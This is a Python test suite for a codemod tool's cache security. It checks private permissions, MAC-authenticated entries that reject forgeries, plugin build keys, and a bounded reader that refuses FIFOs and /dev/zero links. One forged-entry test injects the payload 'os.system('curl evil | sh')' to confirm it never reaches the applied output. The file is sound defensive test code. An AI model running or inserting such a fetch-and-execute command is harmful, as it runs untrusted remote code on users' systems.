"""The result cache and the project index store trust nothing another user could have written.

Issue 22: the cache is private (0700 directory, 0600 files, whatever the umask; a directory
of another user, or writable by group or others, is not used: one warning, the run goes on
uncached), its entries are authenticated with a per-cache secret (a forged entry with a
correct public checksum is ignored), the build key covers every file of each plugin's
distribution (an edited helper module is a new build), and entries are read through a
bounded reader (a FIFO or a link to ``/dev/zero`` neither hangs nor fills memory).
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import stat
import subprocess
import sys
import textwrap
from collections.abc import Callable
from pathlib import Path

import pytest

from codemods import index_store, portability
from codemods.cache import ResultCache, run_fingerprint
from codemods.config import Config
from codemods.runner import run

posix_only = pytest.mark.skipif(portability.effective_uid() is None, reason="POSIX owners")
as_root = pytest.mark.skipif(portability.effective_uid() != 0, reason="chown needs root")

UNDOCUMENTED = "def area(width, height):\n    return width * height\n"
CLIENT = "class Client:\n    def delete_server(self, server_id):\n        pass\n"
RESIZE_TEST = (
    "class ResizeTest:\n"
    "    def _delete_server_allocations(self, server_uuid):\n"
    "        pass\n\n"
    "    def test_resize(self, sid):\n"
    "        self.api.post_server_action(sid, {'resize': {'flavorRef': '2'}})\n"
)
RESIZE_ARGS = ("--unsafe-fixes", "--select", "resize-guard")


def codemods(
    cwd: Path,
    *args: str,
    env: dict[str, str] | None = None,
    preexec: Callable[[], None] | None = None,
    timeout: float = 120,
) -> subprocess.CompletedProcess[str]:
    """Run the command in a new process (``preexec``: in the child, before it starts).

    ``apply`` may write files the test wrote a moment ago (no "racy" window).
    """
    env = {**os.environ, "CODEMODS_RACY_SECONDS": "0", **(env or {})}
    return subprocess.run(
        [sys.executable, "-m", "codemods", *args],
        capture_output=True,
        text=True,
        cwd=cwd,
        env=env,
        check=False,
        preexec_fn=preexec,
        timeout=timeout,
    )


def result_entries(cache: Path) -> list[Path]:
    """Return the result entries under ``cache`` (not the index store's)."""
    return sorted(p for p in cache.rglob("*.json") if "index" not in p.relative_to(cache).parts)


def index_entries(cache: Path) -> list[Path]:
    """Return the index store's entries under ``cache``."""
    return sorted(p for p in cache.rglob("*.json") if "index" in p.relative_to(cache).parts)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    root.mkdir()
    (root / "shapes.py").write_text(UNDOCUMENTED)
    return root


@pytest.fixture
def resize_project(tmp_path: Path) -> Path:
    root = tmp_path / "resize"
    root.mkdir()
    (root / "client.py").write_text(CLIENT)
    (root / "test_resize.py").write_text(RESIZE_TEST)
    return root


# 1. A private cache


@posix_only
def test_the_cache_is_created_private_whatever_the_umask(resize_project, tmp_path) -> None:
    cache = tmp_path / "home" / "cache"
    done = codemods(
        resize_project,
        "diff",
        *RESIZE_ARGS,
        "--cache-dir",
        str(cache),
        ".",
        preexec=lambda: os.umask(0),
    )
    assert done.returncode == 1 and "+        try:" in done.stdout, done.stderr
    assert "warning" not in done.stderr
    assert result_entries(cache) and index_entries(cache)
    assert (cache / index_store.SECRET_NAME).is_file()
    for directory in [cache, *(p for p in cache.rglob("*") if p.is_dir())]:
        assert stat.S_IMODE(directory.stat().st_mode) == 0o700, directory
    files = [p for p in cache.rglob("*") if not p.is_dir()]
    assert len(files) > 4
    for file in files:
        assert stat.S_IMODE(file.stat().st_mode) == 0o600, file
    assert not [p for p in cache.rglob("*") if "codemods-tmp" in p.name]


def _unsafe_world_writable(cache: Path) -> None:
    cache.mkdir()
    cache.chmod(0o777)


def _unsafe_group_writable(cache: Path) -> None:
    cache.mkdir()
    cache.chmod(0o770)


def _unsafe_other_owner(cache: Path) -> None:
    cache.mkdir(mode=0o700)
    os.chown(cache, 12345, 12345)


def _unsafe_parent(cache: Path) -> None:
    cache.parent.chmod(0o777)  # anyone may rename the cache away and put theirs instead
    cache.mkdir(mode=0o700)


def _unsafe_parent_of_other_owner(cache: Path) -> None:
    os.chown(cache.parent, 12345, 12345)


def _unsafe_symlink_to_other_owner(cache: Path) -> None:
    theirs = cache.parent / "theirs"
    theirs.mkdir(mode=0o700)
    os.chown(theirs, 12345, 12345)
    cache.symlink_to(theirs)


UNSAFE = {
    "world-writable": _unsafe_world_writable,
    "group-writable": _unsafe_group_writable,
    "another owner": _unsafe_other_owner,
    "a parent anyone can write": _unsafe_parent,
    "a parent of another owner": _unsafe_parent_of_other_owner,
    "a link to a directory of another owner": _unsafe_symlink_to_other_owner,
}


@posix_only
@as_root
@pytest.mark.parametrize("make_unsafe", UNSAFE.values(), ids=list(UNSAFE))
def test_a_cache_others_can_write_is_not_used(project, tmp_path, make_unsafe) -> None:
    parent = tmp_path / "shared"
    parent.mkdir()
    cache = parent / "cache"
    make_unsafe(cache)
    before = sorted(cache.rglob("*")) if cache.is_dir() else []
    expected = codemods(project, "diff", "--no-cache", ".")
    for _ in range(2):
        done = codemods(project, "diff", "-v", "--cache-dir", str(cache), ".")
        assert (done.returncode, done.stdout) == (expected.returncode, expected.stdout)
        warnings = [line for line in done.stderr.splitlines() if "warning" in line]
        assert len(warnings) == 1, done.stderr
        assert "running without the result cache" in warnings[0]
        assert (sorted(cache.rglob("*")) if cache.is_dir() else []) == before


@posix_only
def test_a_sticky_shared_parent_is_fine(project, tmp_path) -> None:
    parent = tmp_path / "tmp-like"
    parent.mkdir()
    parent.chmod(0o1777)
    cache = parent / "cache"
    first = codemods(project, "diff", "--cache-dir", str(cache), ".")
    second = codemods(project, "diff", "--cache-dir", str(cache), ".")
    assert "warning" not in first.stderr + second.stderr
    assert first.stdout == second.stdout and result_entries(cache)


@posix_only
def test_a_secret_others_can_read_makes_the_cache_unusable(project, tmp_path) -> None:
    cache = tmp_path / "cache"
    codemods(project, "diff", "--cache-dir", str(cache), ".")
    (cache / index_store.SECRET_NAME).chmod(0o644)
    done = codemods(project, "diff", "--cache-dir", str(cache), ".")
    assert done.returncode == 1 and "+    " in done.stdout
    assert sum("warning" in line for line in done.stderr.splitlines()) == 1


# 2. Authenticated entries


def _forged(honest: bytes, new_text: str) -> bytes:
    """Return ``honest`` (an entry) rewritten by someone who knows only public inputs.

    The new text is theirs; the checksum of the payload is right (SHA-256 is public), and
    a MAC is there, but under a secret that is not the cache's.
    """
    header = json.loads(honest.partition(b"\n")[0])
    payload = honest.partition(b"\n")[2]
    meta_size, _, diff_size = header["sizes"]
    meta = payload[:meta_size]
    diff = payload[len(payload) - diff_size :]
    text = new_text.encode()
    payload = meta + text + diff
    header["sizes"] = [meta_size, len(text), diff_size]
    header["checksum"] = hashlib.sha256(payload).hexdigest()
    header["mac"] = index_store.mac(os.urandom(32), payload)
    return json.dumps(header).encode() + b"\n" + payload


def test_a_forged_entry_with_a_right_checksum_does_not_change_what_apply_writes(
    project, tmp_path
) -> None:
    cache = tmp_path / "cache"
    shapes = project / "shapes.py"
    assert codemods(project, "diff", "--cache-dir", str(cache), ".").returncode == 1
    (entry,) = result_entries(cache)
    entry.write_bytes(_forged(entry.read_bytes(), "import os\nos.system('curl evil | sh')\n"))
    entry.chmod(0o600)
    done = codemods(project, "apply", "--cache-dir", str(cache), ".")
    assert done.returncode == 0, done.stderr
    fixed = shapes.read_text()
    assert "os.system" not in fixed
    assert '"""Return area."""' in fixed or "def area" in fixed
    expected = project.parent / "expected"
    expected.mkdir()
    (expected / "shapes.py").write_text(UNDOCUMENTED)
    codemods(expected, "apply", "--no-cache", ".")
    assert fixed == (expected / "shapes.py").read_text()


def test_an_entry_of_another_cache_is_not_trusted(project, tmp_path) -> None:
    """Two caches, two secrets: a whole, honest entry copied from one is ignored by the other."""
    paths = [project / "shapes.py"]
    config = Config()
    first = ResultCache(tmp_path / "one", "t" * 64, run_fingerprint(config))
    list(run(paths, config, jobs=1, cache=first))
    second = ResultCache(tmp_path / "two", "t" * 64, run_fingerprint(config))
    list(run(paths, config, jobs=1, cache=second))
    (mine,) = result_entries(tmp_path / "two")
    (theirs,) = result_entries(tmp_path / "one")
    shutil.copyfile(theirs, mine)
    again = ResultCache(tmp_path / "two", "t" * 64, run_fingerprint(config))
    list(run(paths, config, jobs=1, cache=again))
    assert (again.hits, again.stored) == (0, 1)


def test_forged_index_entries_do_not_change_resize_guards_decision(
    resize_project, tmp_path
) -> None:
    cache = tmp_path / "cache"
    args = ("diff", *RESIZE_ARGS, "--cache-dir", str(cache), "test_resize.py")
    first = codemods(resize_project, *args)
    assert first.returncode == 1 and "+        try:" in first.stdout
    assert index_entries(cache)
    for entry in index_entries(cache):  # each file "does not parse": no class defines anything
        body = json.loads(entry.read_bytes().partition(b"\n")[2])
        forged = {**body, "index": None}
        entry.write_bytes(b"0" * 64 + b"\n" + json.dumps(forged).encode())
    for entry in result_entries(cache):
        entry.unlink()  # the run must ask the index again
    second = codemods(resize_project, *args)
    assert (second.returncode, second.stdout) == (1, first.stdout)


def test_the_index_store_returns_only_what_it_wrote(tmp_path) -> None:
    store = tmp_path / "store"
    index_store.save(store, "pkg.m", "d" * 64, {"classes": ["A"]})
    assert index_store.load(store, "pkg.m", "d" * 64) == {"classes": ["A"]}
    (entry,) = store.glob("??/*.json")
    code, _, body = entry.read_bytes().partition(b"\n")
    plain = json.loads(body)
    for forged in [
        code + b"\n" + body.replace(b'"A"', b'"B"'),  # the body edited, its MAC kept
        b"f" * 64 + b"\n" + body,  # a MAC under another secret
        json.dumps({**plain, "format": 1}).encode(),  # the old, unauthenticated layout
    ]:
        entry.write_bytes(forged)
        assert index_store.load(store, "pkg.m", "d" * 64) is index_store.MISSING


# 3. The build key covers every file of each plugin's distribution

PLUGIN_MAIN = '''\
"""A plugin whose replacement text comes from its helper module."""

import ast

from codemods import Codemod, Finding, Options, SourceFile

from trustplug_helper import REPLACEMENT


class Rename(Codemod[Options]):
    """Rename calls of ``shout``.

    Why is this bad? A test plugin.
    """

    id = "trust-rename"
    summary = "Rename shout."

    def find(self, source: SourceFile):
        """Yield each call of ``shout``."""
        for node in ast.walk(source.tree):
            if isinstance(node, ast.Call) and ast.unparse(node.func) == "shout":
                yield Finding.at(node, "shout", data=node.func)

    def fix(self, source: SourceFile, findings):
        """Rename each callee to the helper's name."""
        return [source.replace(found.data, REPLACEMENT) for found in findings]
'''
PLUGIN_PYPROJECT = """\
[build-system]
requires = ["setuptools>=68"]
build-backend = "setuptools.build_meta"

[project]
name = "trustplug"
version = "1.0"

[tool.setuptools]
py-modules = ["trustplug_main", "trustplug_helper"]

[project.entry-points."codemods.fixes"]
trust-rename = "trustplug_main:Rename"
"""


def _write_plugin_source(directory: Path) -> None:
    directory.mkdir(parents=True)
    (directory / "trustplug_main.py").write_text(PLUGIN_MAIN)
    (directory / "trustplug_helper.py").write_text('REPLACEMENT = "whisper"\n')


@pytest.fixture(scope="module")
def installed_plugin(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
    """Install the plugin with pip (a real install, with a RECORD); return its site and env."""
    build = tmp_path_factory.mktemp("trustplug-build")
    source = build / "source"
    _write_plugin_source(source)
    (source / "pyproject.toml").write_text(PLUGIN_PYPROJECT)
    site = tmp_path_factory.mktemp("trustplug-site")
    subprocess.run(
        [sys.executable, "-m", "pip", "install", "--quiet", "--no-deps", "--target", str(site)]
        + [str(source)],
        check=True,
        cwd=build,
        env={**os.environ, "PIP_DISABLE_PIP_VERSION_CHECK": "1"},
    )
    return site, {**os.environ, "PYTHONPATH": str(site)}


def _plugin_diff_after_helper_edit(site: Path, env: dict[str, str], tmp_path: Path) -> None:
    (tmp_path / "m.py").write_text("shout(1)\n")
    args = ("diff", "--select", "trust-rename", "--cache-dir", str(tmp_path / "cache"), "m.py")
    first = codemods(tmp_path, *args, env=env)
    assert "+whisper(1)" in first.stdout, first.stderr
    assert codemods(tmp_path, *args, env=env).stdout == first.stdout  # warm
    helper = site / "trustplug_helper.py"
    helper.write_text('REPLACEMENT = "murmur"\n')  # the entry point's own file is unchanged
    edited = codemods(tmp_path, *args, env=env)
    assert "+murmur(1)" in edited.stdout, edited.stdout


def test_an_edited_helper_module_of_an_installed_plugin_is_a_new_build(
    installed_plugin, tmp_path
) -> None:
    site, env = installed_plugin
    assert (next(site.glob("trustplug-1.0.dist-info")) / "RECORD").is_file()
    _plugin_diff_after_helper_edit(site, env, tmp_path)


def test_an_edited_helper_module_of_an_editable_plugin_is_a_new_build(tmp_path) -> None:
    """An editable install: its RECORD lists a path file, not the code; the code is hashed."""
    source = tmp_path / "src"
    _write_plugin_source(source)
    site = tmp_path / "site"
    info = site / "trustplug-1.0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: trustplug\nVersion: 1.0\n")
    (info / "entry_points.txt").write_text(
        "[codemods.fixes]\ntrust-rename = trustplug_main:Rename\n"
    )
    direct = {"url": source.as_uri(), "dir_info": {"editable": True}}
    (info / "direct_url.json").write_text(json.dumps(direct))
    (site / "__editable__.trustplug-1.0.pth").write_text(str(source) + "\n")
    (info / "RECORD").write_text(
        "__editable__.trustplug-1.0.pth,,\n"
        "trustplug-1.0.dist-info/METADATA,,\n"
        "trustplug-1.0.dist-info/RECORD,,\n"
    )
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(site), str(source)])}
    work = tmp_path / "work"
    work.mkdir()
    _plugin_diff_after_helper_edit(source, env, work)


# 4. Entries are read through a bounded reader


def _replace_entry(cache: Path, make: Callable[[Path], None]) -> None:
    (entry,) = result_entries(cache)
    entry.unlink()
    make(entry)


def _limit_memory() -> None:
    import resource  # POSIX only, like the tests that use it

    limit = 2 * 1024**3
    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="FIFOs are POSIX")
@pytest.mark.parametrize(
    "make",
    [
        os.mkfifo,
        lambda entry: entry.symlink_to("/dev/zero"),
        lambda entry: entry.symlink_to(entry.parents[3] / "elsewhere.json"),
    ],
    ids=["fifo", "link to /dev/zero", "link to a file"],
)
def test_an_entry_that_is_not_a_regular_file_is_ignored(project, tmp_path, make) -> None:
    cache = tmp_path / "cache"
    expected = codemods(project, "diff", "--cache-dir", str(cache), ".")
    (entry,) = result_entries(cache)
    shutil.copyfile(entry, tmp_path / "elsewhere.json")
    (tmp_path / "elsewhere.json").chmod(0o600)
    _replace_entry(cache, make)
    done = codemods(
        project, "diff", "--cache-dir", str(cache), ".", preexec=_limit_memory, timeout=60
    )
    assert (done.returncode, done.stdout) == (1, expected.stdout), done.stderr
    assert "Traceback" not in done.stderr


def test_the_bounded_reader_refuses_what_is_not_a_small_private_regular_file(
    tmp_path,
) -> None:
    good = tmp_path / "good"
    good.write_bytes(b"x" * 10)
    good.chmod(0o600)
    assert index_store.read_private_file(good, 10) == b"x" * 10
    with pytest.raises(index_store.UntrustedStore, match="larger"):
        index_store.read_private_file(good, 9)
    if portability.effective_uid() is None:
        return
    good.chmod(0o644)
    with pytest.raises(index_store.UntrustedStore, match="private"):
        index_store.read_private_file(good, 10)
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo, 0o600)
    with pytest.raises(index_store.UntrustedStore, match="regular"):
        index_store.read_private_file(fifo, 10)
    link = tmp_path / "link"
    link.symlink_to("/dev/zero")
    with pytest.raises(OSError):
        index_store.read_private_file(link, 10)


# The portability functions this uses


def test_effective_uid_falls_back_to_unknown(monkeypatch: pytest.MonkeyPatch) -> None:
    if hasattr(os, "geteuid"):
        assert portability.effective_uid() == os.geteuid()
        monkeypatch.delattr(os, "geteuid")
    assert portability.effective_uid() is None


def test_without_posix_owners_only_the_kind_of_file_is_checked(
    monkeypatch: pytest.MonkeyPatch, tmp_path
) -> None:
    monkeypatch.setattr(index_store, "effective_uid", lambda: None)
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o777)  # what os.stat reports for every directory on Windows
    assert index_store.private_directory(shared) == shared.resolve()
    secret = index_store.directory_secret(shared)
    assert len(secret) == index_store.SECRET_SIZE
    assert index_store.directory_secret(shared) == secret
    (tmp_path / "file").write_text("")
    with pytest.raises(index_store.UntrustedStore, match="not a directory"):
        index_store.private_directory(tmp_path / "file")


def test_two_runs_creating_the_secret_at_once_agree(tmp_path) -> None:
    script = textwrap.dedent(
        f"""
        import sys
        from pathlib import Path
        from codemods.index_store import directory_secret
        sys.stdout.write(directory_secret(Path({str(tmp_path / "c")!r})).hex())
        """
    )
    runs = [
        subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True)
        for _ in range(6)
    ]
    secrets = {process.communicate()[0] for process in runs}
    assert len(secrets) == 1 and len(next(iter(secrets))) == 64
